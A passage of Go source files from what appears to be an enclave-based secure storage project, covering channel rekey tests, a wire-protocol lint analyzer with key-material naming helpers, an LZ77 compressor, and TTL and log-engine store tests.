func TestChannelRekeyChangesKeys(t *testing.T) {
	client, server := rekeyPair(t, 4)
	defer client.Close()

	initial := append([]byte(nil), client.sendKey...)
	done := make(chan struct{})
	go func() {
		defer close(done)
		for i := 0; i < 5; i++ {
			_, _ = server.Recv()
		}
	}()
	for i := 0; i < 5; i++ {
		if err := client.Send([]byte("x")); err != nil {
			t.Fatalf("send %d: %v", i, err)
		}
	}
	<-done
	if bytes.Equal(client.sendKey, initial) {
		t.Error("send key did not ratchet after interval")
	}
	// Both endpoints hold identical direction keys after the ratchet.
	if !bytes.Equal(client.sendKey, server.recvKey) {
		t.Error("client send key and server recv key diverged")
	}
}

func TestChannelRekeyMismatchFails(t *testing.T) {
	// If one side skips the ratchet (e.g. tampered implementation),
	// frames after the boundary fail authentication rather than
	// decrypting wrongly.
	p := enclave.NewPlatform(enclave.Config{})
	app, _ := p.Create("app", []byte("app code"))
	st, _ := p.Create("store", []byte("store code"))

	cConn, sConn := net.Pipe()
	type res struct {
		ch  *Channel
		err error
	}
	serverDone := make(chan res, 1)
	go func() {
		ch, err := ServerHandshake(sConn, st, nil)
		serverDone <- res{ch, err}
	}()
	client, err := ClientHandshake(cConn, app, st.Measurement())
	if err != nil {
		t.Fatalf("client handshake: %v", err)
	}
	defer client.Close()
	sr := <-serverDone
	if sr.err != nil {
		t.Fatalf("server handshake: %v", sr.err)
	}
	server := sr.ch

	client.rekeyEvery = 2       // client ratchets after 2 frames
	server.rekeyEvery = 1 << 62 // server never does

	errCh := make(chan error, 1)
	go func() {
		for i := 0; i < 3; i++ {
			if _, err := server.Recv(); err != nil {
				errCh <- err
				return
			}
		}
		errCh <- nil
	}()
	for i := 0; i < 3; i++ {
		if err := client.Send([]byte("x")); err != nil {
			t.Fatalf("send %d: %v", i, err)
		}
	}
	if err := <-errCh; err == nil {
		t.Error("server accepted frames across a unilateral rekey")
	}
}
