package lint

import (
	"go/ast"
	"go/constant"
	"go/token"
	"go/types"
	"strings"
)

// WireSymAnalyzer checks that the wire protocol's marshal and unmarshal
// sides agree, catching v1/v2 drift before it ships:
//
//   - every Kind* message-kind constant has a dispatch case in
//     Unmarshal,
//   - every type with an appendTo (marshal) method has a Kind method
//     and a matching decode<Type> function,
//   - Unmarshal dispatches each kind to the decoder of the type that
//     declares that kind,
//   - batch decoders consult readCount (which must enforce
//     MaxBatchItems), so one frame can never expand into unbounded
//     work,
//   - MarshalEnvelope and UnmarshalEnvelope share a header-size
//     constant rather than duplicating a literal,
//   - MaxProtocol equals the highest ProtocolV* constant.
//
// The analyzer applies to packages named "wire".
var WireSymAnalyzer = &Analyzer{
	Name: "wiresym",
	Doc:  "wire message kinds, envelope sizes and batch limits must agree between marshal and unmarshal sides",
	Run:  runWireSym,
}

func runWireSym(pass *Pass) {
	pkg := pass.Pkg
	if pkg.Types.Name() != "wire" {
		return
	}

	var (
		kindConsts   []*ast.Ident          // Kind* constant declarations
		kindOfType   = map[string]string{} // type name -> Kind* const it returns
		kindPos      = map[string]*ast.FuncDecl{}
		appendToType = map[string]*ast.FuncDecl{} // type name -> appendTo decl
		decodeFuncs  = map[string]*ast.FuncDecl{} // decode* function decls
		caseDecode   = map[string]string{}        // Kind* const -> decode func in Unmarshal
		unmarshal    *ast.FuncDecl
		readCount    *ast.FuncDecl
		marshalEnv   *ast.FuncDecl
		unmarshalEnv *ast.FuncDecl
	)

	for _, f := range pkg.Files {
		for _, d := range f.Decls {
			switch d := d.(type) {
			case *ast.GenDecl:
				for _, spec := range d.Specs {
					vs, ok := spec.(*ast.ValueSpec)
					if !ok {
						continue
					}
					for _, name := range vs.Names {
						if strings.HasPrefix(name.Name, "Kind") && len(name.Name) > len("Kind") {
							kindConsts = append(kindConsts, name)
						}
					}
				}
			case *ast.FuncDecl:
				switch {
				case d.Recv != nil && d.Name.Name == "Kind":
					if t, k := recvTypeName(d), soleReturnIdent(d); t != "" && strings.HasPrefix(k, "Kind") {
						kindOfType[t] = k
						kindPos[t] = d
					}
				case d.Recv != nil && d.Name.Name == "appendTo":
					if t := recvTypeName(d); t != "" {
						appendToType[t] = d
					}
				case d.Recv == nil && strings.HasPrefix(d.Name.Name, "decode"):
					decodeFuncs[d.Name.Name] = d
				case d.Recv == nil && d.Name.Name == "Unmarshal":
					unmarshal = d
				case d.Recv == nil && d.Name.Name == "readCount":
					readCount = d
				case d.Recv == nil && d.Name.Name == "MarshalEnvelope":
					marshalEnv = d
				case d.Recv == nil && d.Name.Name == "UnmarshalEnvelope":
					unmarshalEnv = d
				}
			}
		}
	}

	// Index Unmarshal's dispatch switch: case KindX: ... decodeY(...).
	if unmarshal != nil {
		ast.Inspect(unmarshal.Body, func(n ast.Node) bool {
			cc, ok := n.(*ast.CaseClause)
			if !ok {
				return true
			}
			var kinds []string
			for _, e := range cc.List {
				if id, ok := ast.Unparen(e).(*ast.Ident); ok && strings.HasPrefix(id.Name, "Kind") {
					kinds = append(kinds, id.Name)
				}
			}
			var decode string
			for _, stmt := range cc.Body {
				ast.Inspect(stmt, func(n ast.Node) bool {
					if call, ok := n.(*ast.CallExpr); ok {
						if id, ok := ast.Unparen(call.Fun).(*ast.Ident); ok && strings.HasPrefix(id.Name, "decode") {
							decode = id.Name
						}
					}
					return true
				})
			}
			for _, k := range kinds {
				caseDecode[k] = decode
			}
			return true
		})
	}

	// Every kind constant must be dispatched by Unmarshal.
	if unmarshal != nil {
		for _, kc := range kindConsts {
			if _, ok := caseDecode[kc.Name]; !ok {
				pass.Reportf(kc.Pos(), "message kind %s has no dispatch case in Unmarshal; frames of this kind are undecodable", kc.Name)
			}
		}
	}

	// Every marshal side needs its unmarshal counterpart and a wire
	// discriminator.
	for t, decl := range appendToType {
		if _, ok := decodeFuncs["decode"+t]; !ok {
			pass.Reportf(decl.Pos(), "type %s has an appendTo marshal method but no decode%s counterpart", t, t)
		}
		if _, ok := kindOfType[t]; !ok {
			pass.Reportf(decl.Pos(), "type %s has an appendTo marshal method but no Kind method returning its wire discriminator", t)
		}
	}

	// Dispatch must route each kind to the decoder of the type that
	// declares it.
	for t, kind := range kindOfType {
		decode, ok := caseDecode[kind]
		if !ok || decode == "" {
			continue
		}
		if decode != "decode"+t {
			pass.Reportf(kindPos[t].Pos(), "Unmarshal dispatches %s to %s, but %s is the kind of %s (want decode%s)", kind, decode, kind, t, t)
		}
	}

	// Batch decoders must go through readCount, and readCount must
	// enforce MaxBatchItems.
	if hasConst(pkg, "MaxBatchItems") {
		for name, decl := range decodeFuncs {
			if !strings.Contains(name, "Batch") {
				continue
			}
			if !callsFunc(decl, "readCount") && !referencesIdent(decl, "MaxBatchItems") {
				pass.Reportf(decl.Pos(), "%s decodes a batch without readCount/MaxBatchItems validation; a hostile frame can expand into unbounded work", name)
			}
		}
		if readCount != nil && !referencesIdent(readCount, "MaxBatchItems") {
			pass.Reportf(readCount.Pos(), "readCount does not enforce MaxBatchItems")
		}
	}

	// Envelope header symmetry: both sides must share a named size
	// constant.
	if marshalEnv != nil && unmarshalEnv != nil {
		shared := false
		for _, c := range constIdentsUsed(pkg, marshalEnv) {
			if containsString(constIdentsUsed(pkg, unmarshalEnv), c) {
				shared = true
				break
			}
		}
		if !shared {
			pass.Reportf(unmarshalEnv.Pos(), "MarshalEnvelope and UnmarshalEnvelope do not share a header-size constant; envelope framing can drift")
		}
	}

	checkMaxProtocol(pass)
}

// checkMaxProtocol verifies MaxProtocol == max(ProtocolV*), using the
// type-checker's constant values.
func checkMaxProtocol(pass *Pass) {
	scope := pass.Pkg.Types.Scope()
	maxObj, ok := scope.Lookup("MaxProtocol").(*types.Const)
	if !ok {
		return
	}
	maxVal, ok := constant.Int64Val(maxObj.Val())
	if !ok {
		return
	}
	var highest int64
	for _, name := range scope.Names() {
		if !strings.HasPrefix(name, "ProtocolV") {
			continue
		}
		c, ok := scope.Lookup(name).(*types.Const)
		if !ok {
			continue
		}
		if v, ok := constant.Int64Val(c.Val()); ok && v > highest {
			highest = v
		}
	}
	if highest != 0 && maxVal != highest {
		pos := constDeclPos(pass.Pkg, "MaxProtocol")
		pass.Reportf(pos, "MaxProtocol is %d but the highest declared protocol version is %d; version negotiation will refuse the newest protocol", maxVal, highest)
	}
}

// recvTypeName returns a method's receiver type name, stripping
// pointers and type parameters.
func recvTypeName(d *ast.FuncDecl) string {
	if d.Recv == nil || len(d.Recv.List) == 0 {
		return ""
	}
	t := d.Recv.List[0].Type
	for {
		switch u := t.(type) {
		case *ast.StarExpr:
			t = u.X
		case *ast.ParenExpr:
			t = u.X
		case *ast.IndexExpr:
			t = u.X
		case *ast.Ident:
			return u.Name
		default:
			return ""
		}
	}
}

// soleReturnIdent returns the identifier name of a method's single
// `return X` statement, or "".
func soleReturnIdent(d *ast.FuncDecl) string {
	if d.Body == nil || len(d.Body.List) != 1 {
		return ""
	}
	ret, ok := d.Body.List[0].(*ast.ReturnStmt)
	if !ok || len(ret.Results) != 1 {
		return ""
	}
	if id, ok := ast.Unparen(ret.Results[0]).(*ast.Ident); ok {
		return id.Name
	}
	return ""
}

// hasConst reports whether the package scope declares the named
// constant.
func hasConst(pkg *Package, name string) bool {
	_, ok := pkg.Types.Scope().Lookup(name).(*types.Const)
	if ok {
		return true
	}
	// Syntactic fallback for packages with type errors.
	return constDeclPos(pkg, name) != 0
}

// constDeclPos finds the declaration position of a package-level
// constant by name, or 0.
func constDeclPos(pkg *Package, name string) (pos token.Pos) {
	for _, f := range pkg.Files {
		for _, d := range f.Decls {
			gd, ok := d.(*ast.GenDecl)
			if !ok {
				continue
			}
			for _, spec := range gd.Specs {
				if vs, ok := spec.(*ast.ValueSpec); ok {
					for _, n := range vs.Names {
						if n.Name == name {
							return n.Pos()
						}
					}
				}
			}
		}
	}
	return 0
}

// callsFunc reports whether decl's body contains a call to the named
// function.
func callsFunc(decl *ast.FuncDecl, name string) bool {
	found := false
	ast.Inspect(decl.Body, func(n ast.Node) bool {
		if call, ok := n.(*ast.CallExpr); ok {
			if id, ok := ast.Unparen(call.Fun).(*ast.Ident); ok && id.Name == name {
				found = true
			}
		}
		return !found
	})
	return found
}

// referencesIdent reports whether decl's body references the named
// identifier.
func referencesIdent(decl *ast.FuncDecl, name string) bool {
	found := false
	ast.Inspect(decl.Body, func(n ast.Node) bool {
		if id, ok := n.(*ast.Ident); ok && id.Name == name {
			found = true
		}
		return !found
	})
	return found
}

// constIdentsUsed collects the names of package-level constants
// referenced by decl's body.
func constIdentsUsed(pkg *Package, decl *ast.FuncDecl) []string {
	var out []string
	ast.Inspect(decl.Body, func(n ast.Node) bool {
		id, ok := n.(*ast.Ident)
		if !ok {
			return true
		}
		if _, isConst := pkg.Info.Uses[id].(*types.Const); isConst {
			out = append(out, id.Name)
		}
		return true
	})
	return out
}

func containsString(list []string, s string) bool {
	for _, v := range list {
		if v == s {
			return true
		}
	}
	return false
}
