package lint

import (
	"go/ast"
	"go/types"
	"strings"
)

// forEachFunc invokes fn for every function or method declaration with
// a body in the package.
func forEachFunc(pkg *Package, fn func(file *ast.File, decl *ast.FuncDecl)) {
	for _, f := range pkg.Files {
		for _, d := range f.Decls {
			if fd, ok := d.(*ast.FuncDecl); ok && fd.Body != nil {
				fn(f, fd)
			}
		}
	}
}

// calleeParts splits a call's callee into a qualifier (package alias or
// receiver expression text) and the final name: fmt.Errorf -> ("fmt",
// "Errorf"), Errorf -> ("", "Errorf"), a.b.C() -> ("a.b", "C").
func calleeParts(call *ast.CallExpr) (qualifier, name string) {
	switch fn := ast.Unparen(call.Fun).(type) {
	case *ast.Ident:
		return "", fn.Name
	case *ast.SelectorExpr:
		return exprText(fn.X), fn.Sel.Name
	}
	return "", ""
}

// exprText renders a restricted expression (identifiers and selectors)
// as source text, for diagnostics and name-based fallbacks.
func exprText(e ast.Expr) string {
	switch e := ast.Unparen(e).(type) {
	case *ast.Ident:
		return e.Name
	case *ast.SelectorExpr:
		return exprText(e.X) + "." + e.Sel.Name
	case *ast.StarExpr:
		return exprText(e.X)
	case *ast.CallExpr:
		return exprText(e.Fun) + "()"
	case *ast.IndexExpr:
		return exprText(e.X) + "[...]"
	}
	return ""
}

// pkgPathOf resolves the import path of a package qualifier identifier
// (e.g. the "atomic" in atomic.AddInt64), or "" when the identifier is
// not a package name or type info is missing.
func pkgPathOf(pkg *Package, e ast.Expr) string {
	id, ok := ast.Unparen(e).(*ast.Ident)
	if !ok {
		return ""
	}
	if obj, ok := pkg.Info.Uses[id]; ok {
		if pn, ok := obj.(*types.PkgName); ok {
			return pn.Imported().Path()
		}
	}
	return ""
}

// isPkgFunc reports whether call invokes pkgPath.name, resolved through
// type info with a syntactic fallback on the package's base name.
func isPkgFunc(pkg *Package, call *ast.CallExpr, pkgPath, name string) bool {
	sel, ok := ast.Unparen(call.Fun).(*ast.SelectorExpr)
	if !ok || sel.Sel.Name != name {
		return false
	}
	if path := pkgPathOf(pkg, sel.X); path != "" {
		return path == pkgPath
	}
	base := pkgPath
	if i := strings.LastIndexByte(base, '/'); i >= 0 {
		base = base[i+1:]
	}
	id, ok := ast.Unparen(sel.X).(*ast.Ident)
	return ok && id.Name == base
}

// namedTypeOf resolves the named (or aliased) type of an expression,
// unwrapping pointers. Returns nil when type info is unavailable.
func namedTypeOf(pkg *Package, e ast.Expr) *types.Named {
	tv, ok := pkg.Info.Types[e]
	if !ok || tv.Type == nil {
		return nil
	}
	t := tv.Type
	for {
		switch u := t.(type) {
		case *types.Pointer:
			t = u.Elem()
		case *types.Named:
			return u
		case *types.Alias:
			t = types.Unalias(t)
		default:
			return nil
		}
	}
}

// typeIs reports whether e's type is the named type pkgName.typeName
// (matching the defining package's base name, so both the real module
// packages and test fixtures match).
func typeIs(pkg *Package, e ast.Expr, pkgName, typeName string) bool {
	n := namedTypeOf(pkg, e)
	if n == nil || n.Obj() == nil {
		return false
	}
	if n.Obj().Name() != typeName {
		return false
	}
	p := n.Obj().Pkg()
	return p != nil && p.Name() == pkgName
}

// isByteBuffer reports whether t is []byte, [N]byte, or a pointer to
// either — the shapes key material lives in.
func isByteBuffer(t types.Type) bool {
	if t == nil {
		return false
	}
	switch u := t.Underlying().(type) {
	case *types.Slice:
		return isByte(u.Elem())
	case *types.Array:
		return isByte(u.Elem())
	case *types.Pointer:
		return isByteBuffer(u.Elem())
	}
	return false
}

func isByte(t types.Type) bool {
	b, ok := t.Underlying().(*types.Basic)
	return ok && (b.Kind() == types.Byte || b.Kind() == types.Uint8)
}

// identRootsOf collects the base identifiers referenced by an argument
// expression, looking through slicing, indexing, address-of and
// selector chains: key, key[:16], &key, s.key all root at an
// identifier. Calls are deliberately not traversed: len(key) does not
// leak key.
func identRootsOf(e ast.Expr, out *[]*ast.Ident) {
	switch e := ast.Unparen(e).(type) {
	case *ast.Ident:
		*out = append(*out, e)
	case *ast.SelectorExpr:
		// For s.key the interesting name is the field; record the
		// selector identifier itself.
		*out = append(*out, e.Sel)
	case *ast.SliceExpr:
		identRootsOf(e.X, out)
	case *ast.IndexExpr:
		identRootsOf(e.X, out)
	case *ast.UnaryExpr:
		identRootsOf(e.X, out)
	case *ast.StarExpr:
		identRootsOf(e.X, out)
	}
}

// secretAllow are name fragments that defuse the secret heuristic:
// wrapped keys are ciphertext, public keys and sizes are not secrets.
var secretAllow = []string{"wrapped", "public", "pub", "size", "len", "id", "name", "kind", "hash", "tag"}

// secretFragments mark a name as key material.
var secretFragments = []string{"key", "plaintext", "secret", "seed", "passphrase", "password", "shared"}

// isSecretName applies SPEED's naming convention for key material.
func isSecretName(name string) bool {
	l := strings.ToLower(name)
	for _, a := range secretAllow {
		if strings.Contains(l, a) {
			return false
		}
	}
	for _, s := range secretFragments {
		if strings.Contains(l, s) {
			return true
		}
	}
	return false
}

// isSecretExpr reports whether e roots at an identifier that names key
// material AND has a byte-buffer type (the type gate kills map-key /
// label-string false positives). With no type info, the name alone
// decides.
func isSecretExpr(pkg *Package, e ast.Expr) (string, bool) {
	var roots []*ast.Ident
	identRootsOf(e, &roots)
	for _, id := range roots {
		if !isSecretName(id.Name) {
			continue
		}
		obj := pkg.Info.Uses[id]
		if obj == nil {
			obj = pkg.Info.Defs[id]
		}
		if obj != nil && obj.Type() != nil {
			if !isByteBuffer(obj.Type()) {
				continue
			}
		}
		return id.Name, true
	}
	return "", false
}
