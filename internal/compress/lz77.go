// Package compress is a from-scratch DEFLATE-style data compressor
// standing in for zlib's deflate in Case 2 of the paper's evaluation.
// It combines LZ77 string matching over a 32 KB sliding window (hash
// chains, greedy parsing with lazy one-step lookahead) with a canonical
// length-limited Huffman code over the token byte stream, and exposes a
// simple Compress/Decompress API with an integrity-checked container
// format. The standard library's compress/flate is intentionally not
// used: the substrate itself is part of the reproduction.
package compress

import (
	"encoding/binary"
	"errors"
)

// LZ77 parameters.
const (
	windowSize = 32 << 10
	minMatch   = 4
	maxMatch   = 258
	hashBits   = 15
	hashSize   = 1 << hashBits
)

// lzParams tunes the match finder; higher effort costs more time for a
// better ratio, like zlib's compression levels.
type lzParams struct {
	maxChainHops int
	lazy         bool
}

// levelParams maps the public 1..9 levels onto match-finder effort.
// Level 0/default is level 5.
func levelParams(level int) lzParams {
	switch {
	case level <= 0:
		return lzParams{maxChainHops: 64, lazy: true} // default = level 5
	case level <= 2:
		return lzParams{maxChainHops: 8, lazy: false}
	case level <= 4:
		return lzParams{maxChainHops: 32, lazy: false}
	case level <= 6:
		return lzParams{maxChainHops: 64, lazy: true}
	case level <= 8:
		return lzParams{maxChainHops: 192, lazy: true}
	default:
		return lzParams{maxChainHops: 512, lazy: true}
	}
}

// Token stream format (the intermediate representation between LZ77 and
// Huffman): groups of up to 8 tokens are preceded by a flag byte whose
// bit i (LSB first) is 0 for a literal (1 following byte) and 1 for a
// match (3 following bytes: length-minMatch, then distance-1 as a
// little-endian uint16).

func hash4(b []byte) uint32 {
	v := binary.LittleEndian.Uint32(b)
	return (v * 2654435761) >> (32 - hashBits)
}

// lzCompress produces the token stream for src at default effort.
func lzCompress(src []byte) []byte {
	return lzCompressLevel(src, levelParams(0))
}

// lzCompressLevel produces the token stream for src with explicit
// match-finder effort.
func lzCompressLevel(src []byte, params lzParams) []byte {
	if len(src) == 0 {
		return nil
	}
	out := make([]byte, 0, len(src)/2+16)

	head := make([]int32, hashSize)
	prev := make([]int32, len(src))
	for i := range head {
		head[i] = -1
	}

	var (
		flagPos  = -1
		flagBits = 8 // force new flag byte on first token
		nFlags   uint
	)
	emitFlag := func(isMatch bool) {
		if flagBits == 8 {
			flagPos = len(out)
			out = append(out, 0)
			flagBits = 0
		}
		if isMatch {
			out[flagPos] |= 1 << uint(flagBits)
		}
		flagBits++
		nFlags++
	}

	insert := func(i int) {
		if i+minMatch > len(src) {
			return
		}
		h := hash4(src[i:])
		prev[i] = head[h]
		head[h] = int32(i)
	}

	findMatch := func(i int) (length, dist int) {
		if i+minMatch > len(src) {
			return 0, 0
		}
		limit := i - windowSize
		if limit < 0 {
			limit = 0
		}
		best := 0
		bestDist := 0
		maxLen := len(src) - i
		if maxLen > maxMatch {
			maxLen = maxMatch
		}
		cand := head[hash4(src[i:])]
		for hops := 0; cand >= int32(limit) && hops < params.maxChainHops; hops++ {
			j := int(cand)
			if j >= i {
				cand = prev[j]
				continue
			}
			// Quick reject on the byte past the current best.
			if best > 0 && (i+best >= len(src) || src[j+best] != src[i+best]) {
				cand = prev[j]
				continue
			}
			l := 0
			for l < maxLen && src[j+l] == src[i+l] {
				l++
			}
			if l > best {
				best = l
				bestDist = i - j
				if l == maxLen {
					break
				}
			}
			cand = prev[j]
		}
		if best < minMatch {
			return 0, 0
		}
		return best, bestDist
	}

	i := 0
	for i < len(src) {
		length, dist := findMatch(i)
		if length >= minMatch {
			// Insert the match start exactly once; a second insert of
			// the same position would self-link the hash chain
			// (prev[i] = i) and waste match-finder hops.
			insert(i)
			// Lazy matching: if the next position has a strictly
			// longer match, emit a literal instead.
			if params.lazy && i+1 < len(src) {
				l2, _ := findMatch(i + 1)
				if l2 > length {
					emitFlag(false)
					out = append(out, src[i])
					i++
					continue
				}
			}
			emitFlag(true)
			out = append(out, byte(length-minMatch))
			var d [2]byte
			binary.LittleEndian.PutUint16(d[:], uint16(dist-1))
			out = append(out, d[0], d[1])
			// Insert hash entries for the skipped positions (bounded
			// for speed), excluding i which is already chained.
			end := i + length
			step := 1
			if length > 64 {
				step = 4
			}
			for p := i + step; p < end; p += step {
				insert(p)
			}
			i = end
			continue
		}
		insert(i)
		emitFlag(false)
		out = append(out, src[i])
		i++
	}
	return out
}

// errCorrupt is the shared decode failure.
var errCorrupt = errors.New("compress: corrupt data")

// lzDecompress expands a token stream into dst capacity origLen.
func lzDecompress(tokens []byte, origLen int) ([]byte, error) {
	out := make([]byte, 0, origLen)
	i := 0
	for i < len(tokens) {
		flags := tokens[i]
		i++
		for bit := 0; bit < 8 && i < len(tokens); bit++ {
			if len(out) >= origLen {
				break
			}
			if flags&(1<<uint(bit)) == 0 {
				out = append(out, tokens[i])
				i++
				continue
			}
			if i+3 > len(tokens) {
				return nil, errCorrupt
			}
			length := int(tokens[i]) + minMatch
			dist := int(binary.LittleEndian.Uint16(tokens[i+1:])) + 1
			i += 3
			if dist > len(out) {
				return nil, errCorrupt
			}
			start := len(out) - dist
			for k := 0; k < length; k++ {
				out = append(out, out[start+k])
			}
		}
	}
	if len(out) != origLen {
		return nil, errCorrupt
	}
	return out, nil
}
