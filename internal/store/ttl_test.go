package store

import (
	"testing"
	"time"
)

// ttlClock is a manually advanced clock for TTL tests.
type ttlClock struct {
	now time.Time
}

func (c *ttlClock) Now() time.Time { return c.now }

func newTTLStore(t *testing.T, ttl time.Duration) (*Store, *ttlClock) {
	t.Helper()
	clock := &ttlClock{now: time.Unix(1000, 0)}
	s := testStore(t, Config{TTL: ttl, Now: clock.Now})
	return s, clock
}

func TestTTLExpiresOnAccess(t *testing.T) {
	s, clock := newTTLStore(t, time.Minute)
	owner := ownerOf("app")
	if _, err := s.Put(owner, tagOf("t"), sealedOf("v")); err != nil {
		t.Fatalf("Put: %v", err)
	}

	// Within TTL: served.
	clock.now = clock.now.Add(30 * time.Second)
	if _, found, err := s.Get(tagOf("t")); err != nil || !found {
		t.Fatalf("Get within TTL = (%v, %v)", found, err)
	}

	// The hit refreshed the entry: another 45s later it is still live
	// (75s after Put, but only 45s after the last touch).
	clock.now = clock.now.Add(45 * time.Second)
	if _, found, _ := s.Get(tagOf("t")); !found {
		t.Fatal("refreshed entry expired early")
	}

	// Past TTL with no touches: reported as a miss and collected.
	clock.now = clock.now.Add(2 * time.Minute)
	if _, found, err := s.Get(tagOf("t")); err != nil || found {
		t.Fatalf("Get past TTL = (%v, %v), want miss", found, err)
	}
	if s.Len() != 0 {
		t.Errorf("expired entry still resident, Len = %d", s.Len())
	}
	if got := s.Stats().Expired; got != 1 {
		t.Errorf("Expired = %d, want 1", got)
	}
	// Quota accounting returned.
	if got := s.AppBytes(owner); got != 0 {
		t.Errorf("AppBytes after expiry = %d, want 0", got)
	}
}

func TestTTLExpireNowSweep(t *testing.T) {
	s, clock := newTTLStore(t, time.Minute)
	owner := ownerOf("app")
	for i := 0; i < 5; i++ {
		if _, err := s.Put(owner, tagOf(string(rune('a'+i))), sealedOf("v")); err != nil {
			t.Fatalf("Put: %v", err)
		}
	}
	clock.now = clock.now.Add(30 * time.Second)
	// Refresh two entries.
	s.Get(tagOf("a"))
	s.Get(tagOf("b"))
	clock.now = clock.now.Add(45 * time.Second)

	if n := s.ExpireNow(); n != 3 {
		t.Errorf("ExpireNow = %d, want 3", n)
	}
	if s.Len() != 2 {
		t.Errorf("Len = %d, want 2", s.Len())
	}
	for _, k := range []string{"a", "b"} {
		if _, found, _ := s.Get(tagOf(k)); !found {
			t.Errorf("refreshed entry %s was swept", k)
		}
	}
}

func TestTTLDisabledByDefault(t *testing.T) {
	clock := &ttlClock{now: time.Unix(0, 0)}
	s := testStore(t, Config{Now: clock.Now})
	if _, err := s.Put(ownerOf("app"), tagOf("t"), sealedOf("v")); err != nil {
		t.Fatalf("Put: %v", err)
	}
	clock.now = clock.now.Add(1000 * time.Hour)
	if _, found, _ := s.Get(tagOf("t")); !found {
		t.Error("entry expired without a TTL configured")
	}
	if n := s.ExpireNow(); n != 0 {
		t.Errorf("ExpireNow without TTL = %d, want 0", n)
	}
}

func TestTTLObliviousModeNoRefresh(t *testing.T) {
	clock := &ttlClock{now: time.Unix(1000, 0)}
	s := testStore(t, Config{TTL: time.Minute, Oblivious: true, Now: clock.Now})
	if _, err := s.Put(ownerOf("app"), tagOf("t"), sealedOf("v")); err != nil {
		t.Fatalf("Put: %v", err)
	}
	// Touch repeatedly; oblivious mode must not refresh lastTouch
	// (freshness updates leak the accessed entry).
	for i := 0; i < 3; i++ {
		clock.now = clock.now.Add(25 * time.Second)
		if _, found, _ := s.Get(tagOf("t")); !found && i < 2 {
			t.Fatalf("entry expired early at touch %d", i)
		}
	}
	// 75s after Put: past TTL despite the touches.
	if _, found, _ := s.Get(tagOf("t")); found {
		t.Error("oblivious mode refreshed entry freshness")
	}
}
