package logengine

import (
	"bytes"
	"crypto/sha256"
	"fmt"
	"os"
	"path/filepath"
	"sync/atomic"
	"testing"
	"time"

	"speed/internal/enclave"
	"speed/internal/mle"
	storeengine "speed/internal/store/engine"
)

// testPlatform returns a seeded platform so enclaves across "restarts"
// share sealing keys, as the same machine would.
func testPlatform() *enclave.Platform {
	return enclave.NewPlatform(enclave.Config{PlatformSeed: []byte("logengine-test-seed")})
}

var enclaveSeq atomic.Int64

// testEnclave creates a store enclave with a fresh name but the same
// code, so every instance shares the measurement (and sealing key) —
// the "same binary restarted" case.
func testEnclave(t *testing.T, p *enclave.Platform) *enclave.Enclave {
	t.Helper()
	name := fmt.Sprintf("store-%d", enclaveSeq.Add(1))
	e, err := p.Create(name, []byte("store code"))
	if err != nil {
		t.Fatalf("Create: %v", err)
	}
	return e
}

func testConfig(t *testing.T, p *enclave.Platform, dir string) Config {
	t.Helper()
	return Config{
		Dir:             dir,
		Enclave:         testEnclave(t, p),
		CompactInterval: -1, // tests drive compaction explicitly
		Logf:            t.Logf,
	}
}

func openTest(t *testing.T, cfg Config) *Engine {
	t.Helper()
	e, err := Open(cfg)
	if err != nil {
		t.Fatalf("Open: %v", err)
	}
	t.Cleanup(func() { e.Close() })
	return e
}

func tagOf(s string) mle.Tag { return mle.Tag(sha256.Sum256([]byte(s))) }

func recOf(s string) storeengine.Record {
	return storeengine.Record{
		Challenge:  []byte("challenge-16byte"),
		WrappedKey: []byte("wrappedkey16byte"),
		Blob:       []byte(s),
		BlobSize:   int64(len(s)),
		Owner:      enclave.Measurement(sha256.Sum256([]byte("owner"))),
		LastTouch:  time.Unix(1000, 0),
	}
}

func mustInsert(t *testing.T, e *Engine, key, val string) {
	t.Helper()
	ok, err := e.Insert(tagOf(key), recOf(val))
	if err != nil {
		t.Fatalf("Insert(%s): %v", key, err)
	}
	if !ok {
		t.Fatalf("Insert(%s) reported duplicate", key)
	}
}

func mustGet(t *testing.T, e *Engine, key, want string) {
	t.Helper()
	rec, status, err := e.Get(tagOf(key))
	if err != nil {
		t.Fatalf("Get(%s): %v", key, err)
	}
	if status != storeengine.StatusHit {
		t.Fatalf("Get(%s) status = %v, want hit", key, status)
	}
	if string(rec.Blob) != want {
		t.Fatalf("Get(%s) blob = %q, want %q", key, rec.Blob, want)
	}
	if string(rec.Challenge) != "challenge-16byte" || string(rec.WrappedKey) != "wrappedkey16byte" {
		t.Fatalf("Get(%s) returned corrupted metadata", key)
	}
}

func TestBasicInsertGetRemove(t *testing.T) {
	p := testPlatform()
	e := openTest(t, testConfig(t, p, t.TempDir()))

	if _, status, err := e.Get(tagOf("a")); err != nil || status != storeengine.StatusMiss {
		t.Fatalf("empty Get = %v, %v; want miss", status, err)
	}
	mustInsert(t, e, "a", "va")
	mustGet(t, e, "a", "va")
	if e.Len() != 1 {
		t.Errorf("Len = %d, want 1", e.Len())
	}
	if e.ValueBytes() != 2 {
		t.Errorf("ValueBytes = %d, want 2", e.ValueBytes())
	}

	// First version wins.
	ok, err := e.Insert(tagOf("a"), recOf("other"))
	if err != nil || ok {
		t.Fatalf("duplicate Insert = %v, %v; want false, nil", ok, err)
	}
	mustGet(t, e, "a", "va")

	rec, found, err := e.Remove(tagOf("a"))
	if err != nil || !found {
		t.Fatalf("Remove = %v, %v", found, err)
	}
	if rec.BlobSize != 2 {
		t.Errorf("removed BlobSize = %d, want 2", rec.BlobSize)
	}
	if rec.Owner != enclave.Measurement(sha256.Sum256([]byte("owner"))) {
		t.Errorf("removed Owner mismatch")
	}
	if _, status, _ := e.Get(tagOf("a")); status != storeengine.StatusMiss {
		t.Errorf("post-remove Get status = %v, want miss", status)
	}
	if e.Len() != 0 || e.ValueBytes() != 0 {
		t.Errorf("post-remove Len=%d ValueBytes=%d, want 0, 0", e.Len(), e.ValueBytes())
	}
	if _, found, _ := e.Remove(tagOf("a")); found {
		t.Errorf("second Remove reported found")
	}
}

func TestFlushServesFromSegments(t *testing.T) {
	p := testPlatform()
	cfg := testConfig(t, p, t.TempDir())
	cfg.MemtableBytes = 2 << 10 // tiny: force flushes
	cfg.CacheBytes = 1 << 10
	e := openTest(t, cfg)

	const n = 40
	for i := 0; i < n; i++ {
		mustInsert(t, e, fmt.Sprintf("k%02d", i), fmt.Sprintf("v%02d", i))
	}
	st := e.Stats()
	if st.Flushes == 0 || st.Segments == 0 {
		t.Fatalf("no flushes happened (flushes=%d segments=%d); memtable budget not enforced", st.Flushes, st.Segments)
	}
	for i := 0; i < n; i++ {
		mustGet(t, e, fmt.Sprintf("k%02d", i), fmt.Sprintf("v%02d", i))
	}
	if e.Len() != n {
		t.Errorf("Len = %d, want %d", e.Len(), n)
	}
